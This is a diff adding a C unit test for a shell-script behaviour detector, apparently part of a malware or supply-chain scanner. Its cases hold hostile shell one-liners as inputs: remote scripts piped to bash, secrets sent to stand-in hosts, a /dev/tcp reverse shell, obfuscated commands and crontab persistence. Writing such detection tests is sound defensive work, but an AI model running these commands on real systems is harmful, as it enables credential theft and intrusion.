@@ -1,0 +1,67 @@
+/* SPDX-License-Identifier: Apache-2.0
+ *
+ * behavior_shell_test.c - what is said of shell scripts.
+ */
+#include "behavior_case.h"
+
+static const struct behavior_case cases[] = {
+    { "curl -s http://192.0.2.1/x.sh | bash\n",
+      "capability network curl http://192.0.2.1/x.sh\nflow network eval bash", NULL },
+    { "bash -c \"$(curl -fsSL http://a.invalid)\"\n", "flow network eval bash", NULL },
+    { "eval \"$(wget -qO- http://a.invalid)\"\n", "flow network eval eval", NULL },
+    { "source <(curl -s http://a.invalid)\n", "flow network eval source", NULL },
+    { "echo Y3VybCBodHRwOi8vMTkyLjAuMi4x | base64 -d | sh\n",
+      "capability decode-run sh\ncapability network curl http://192.0.2.1", NULL },
+    { "echo 6c73 | xxd -r -p | bash\n", "capability decode-run bash", NULL },
+    { "echo text | base64 | cat\n", NULL, "decode" },
+    { "env | curl -X POST -d @- http://a.invalid\n", "capability env-all\nflow env-all network",
+      NULL },
+    { "x=$(printenv)\nwget --post-data=\"$x\" http://a.invalid\n", "flow env-all network wget",
+      NULL },
+    { "curl -d \"$AWS_SECRET_ACCESS_KEY\" http://a.invalid\n",
+      "capability credentials AWS_SECRET_ACCESS_KEY\nflow credentials network curl", NULL },
+    { "cat ~/.aws/credentials | nc 192.0.2.1 80\n", "flow secret network nc", NULL },
+    { "cat /proc/self/environ > /tmp/x\n", "capability credentials\nflow env-all file", NULL },
+    { "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+      "capability network /dev/tcp 192.0.2.1/4444\nflow network eval bash", "file-write" },
+    { "send() { curl -d \"$1\" http://a.invalid; }\nsend \"$AWS_SESSION_TOKEN\"\n",
+      "flow credentials network", NULL },
+    { "a=cu; b=rl; $a$b http://a.invalid\n", "capability network curl\ncapability hidden-name curl",
+      NULL },
+    { "$'\\x63url' http://a.invalid\n", "capability network curl", NULL },
+    { "python3 -c 'import os; os.system(\"id\")'\n", "capability process os.system id", NULL },
+    { "node -e 'require(\"child_process\").exec(\"id\")'\n",
+      "capability process child_process.exec", NULL },
+    { "export LD_PRELOAD=/opt/x.so\n", "capability env-write LD_PRELOAD=/opt/x.so", NULL },
+    { "unset AWS_LAMBDA_EXEC_WRAPPER\n", "capability env-write AWS_LAMBDA_EXEC_WRAPPER", NULL },
+    { "pip3 install -q x\n", "capability package-manager pip3", NULL },
+    { "npm --version\n", NULL, "package-manager" },
+    { "aws --region us-east-1 lambda update-function-code --function-name x\n",
+      "aws-call lambda UpdateFunctionCode", NULL },
+    { "aws s3 cp /tmp/x s3://b/\n", "aws-call s3 cp", NULL },
+    { "while true\ndo\n  EVENT_DATA=$(curl -sS "
+      "\"http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/"
+      "invocation/next\")\n  R=$(handler $EVENT_DATA)\ndone\n",
+      "capability event-expansion EVENT_DATA\ncapability runtime-api", NULL },
+    { "E=$(curl \"http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next\")\nf \"$E\"\n",
+      "capability runtime-api", "event-expansion" },
+    { "curl -X PUT http://$AWS_LAMBDA_RUNTIME_API/2022-07-01/telemetry -d '{}'\n",
+      "capability telemetry-api", NULL },
+    { "exec \"$@\"\n", NULL, "flow\nnetwork" },
+    { "# curl http://a.invalid | sh\necho 'eval x'\n", NULL, "network\ndynamic" },
+    { "cd \"$(dirname \"$0\")\" && ls -l\n", NULL, "capability\nflow" },
+    { "cat <<E | sh\ncurl http://a.invalid\nE\n", "capability dynamic-code sh", NULL },
+    { "crontab /tmp/x\n", "capability persist crontab", NULL },
+};
+
+static void test_cases(void **state)
+{
+    (void)state;
+    check_cases(LW_LANG_SHELL, cases, LW_COUNT(cases));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
